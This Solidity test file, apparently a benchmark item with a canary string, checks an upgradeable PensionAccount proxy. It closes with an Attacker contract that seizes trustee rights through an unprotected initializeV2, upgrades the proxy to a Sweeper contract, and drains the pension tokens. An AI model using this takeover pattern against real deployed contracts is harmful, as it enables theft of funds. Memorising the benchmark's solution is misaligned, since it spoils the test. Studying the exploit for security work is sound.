// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "@openzeppelin/contracts@4.9.6/proxy/ERC1967/ERC1967Proxy.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./PensionAccount.sol";

// assay-canary-47c1e0fd-6922-4502-91fb-f1d1e93a38d3

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant FIRM = address(0xF12);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant FUND = address(0xF00D);
    uint256 private constant START = 1_790_000_000;

    Token public token;
    PensionAccount public account;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        account = made();
        token.mint(FIRM, 20_000);
        account.enrol(ANA, uint64(START + 3650 days));
        account.enrol(BEN, uint64(START + 30 days));
        vm.startPrank(FIRM);
        token.approve(address(account), 20_000);
        account.contribute(ANA, 6_000);
        account.contribute(BEN, 3_000);
        vm.stopPrank();
        mallory = new Attacker(account);
    }

    // An account whose fields of the second version nobody has set yet.
    function made() private returns (PensionAccount) {
        PensionAccount code = new PensionAccount();
        bytes memory call = abi.encodeCall(code.initialize, (token, FIRM, address(this)));
        return PensionAccount(address(new ERC1967Proxy(address(code), call)));
    }

    function test_Regular() public {
        account.initializeV2(address(this), FUND, 100);
        require(account.feeBps() == 100 && account.collector() == FUND, "second version");
        vm.warp(START + 30 days);
        vm.prank(BEN);
        account.payOut();
        require(token.balanceOf(BEN) == 2_970 && token.balanceOf(FUND) == 30, "paid out");
        account.enrol(ANA, uint64(block.timestamp + 1 days));
        account.setFee(FUND, 0);
        vm.warp(block.timestamp + 1 days);
        vm.prank(ANA);
        account.payOut();
        require(token.balanceOf(ANA) == 6_000 && token.balanceOf(address(account)) == 0, "without a fee");
        account.setEmployer(ANA);
        require(account.employer() == ANA, "employer");
        PensionAccount next = new PensionAccount();
        account.upgradeTo(address(next));
        account.upgradeToAndCall(address(next), abi.encodeCall(next.setTrustee, (ANA)));
        vm.prank(ANA);
        account.setTrustee(BEN);
    }

    function stranger() private {
        vm.prank(ANA);
        vm.expectRevert("PensionAccount: not the trustee");
    }

    function test_RefusesStrangers() public {
        stranger();
        account.setTrustee(ANA);
        stranger();
        account.setEmployer(ANA);
        stranger();
        account.setFee(ANA, 1);
        stranger();
        account.enrol(ANA, uint64(block.timestamp + 1));
        stranger();
        account.upgradeTo(address(account));
        vm.prank(ANA);
        vm.expectRevert("PensionAccount: not the employer");
        account.contribute(ANA, 1);
    }

    function test_RefusesToBegin() public {
        vm.expectRevert("Initializable: contract is already initialized");
        account.initialize(token, FIRM, address(this));
        account.initializeV2(address(this), FUND, 100);
        vm.expectRevert("Initializable: contract is already initialized");
        account.initializeV2(address(this), FUND, 100);
        PensionAccount code = new PensionAccount();
        vm.expectRevert("Initializable: contract is already initialized");
        code.initialize(token, FIRM, address(this));
        vm.expectRevert("PensionAccount: zero token");
        new ERC1967Proxy(address(code), abi.encodeCall(code.initialize, (IERC20(address(0)), FIRM, address(this))));
        vm.expectRevert("PensionAccount: zero employer");
        new ERC1967Proxy(address(code), abi.encodeCall(code.initialize, (token, address(0), address(this))));
        vm.expectRevert("PensionAccount: zero trustee");
        new ERC1967Proxy(address(code), abi.encodeCall(code.initialize, (token, FIRM, address(0))));
    }

    function test_RefusesMistakes() public {
        vm.expectRevert("PensionAccount: zero trustee");
        account.initializeV2(address(0), FUND, 100);
        vm.expectRevert("PensionAccount: zero trustee");
        account.setTrustee(address(0));
        vm.expectRevert("PensionAccount: zero employer");
        account.setEmployer(address(0));
        vm.expectRevert("PensionAccount: zero collector");
        account.setFee(address(0), 1);
        vm.expectRevert("PensionAccount: fee too high");
        account.setFee(FUND, 501);
        vm.expectRevert("PensionAccount: zero member");
        account.enrol(address(0), uint64(block.timestamp + 1));
        vm.expectRevert("PensionAccount: in the past");
        account.enrol(ANA, uint64(block.timestamp));
        vm.prank(FIRM);
        vm.expectRevert("PensionAccount: not enrolled");
        account.contribute(FUND, 1);
        vm.expectRevert("PensionAccount: nothing saved");
        account.payOut();
        vm.prank(ANA);
        vm.expectRevert("PensionAccount: not retired");
        account.payOut();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 9_000, "nothing gained");
    }

    function target() public view returns (address) {
        return address(account);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Sweeper is UUPSUpgradeable {
    function sweep(IERC20 token) external {
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function _authorizeUpgrade(address) internal override {}
}

contract Attacker {
    PensionAccount private account;

    constructor(PensionAccount account_) {
        account = account_;
    }

    function run() external {
        IERC20 token = account.token();
        account.initializeV2(address(this), address(this), 500);
        account.upgradeTo(address(new Sweeper()));
        Sweeper(address(account)).sweep(token);
    }
}
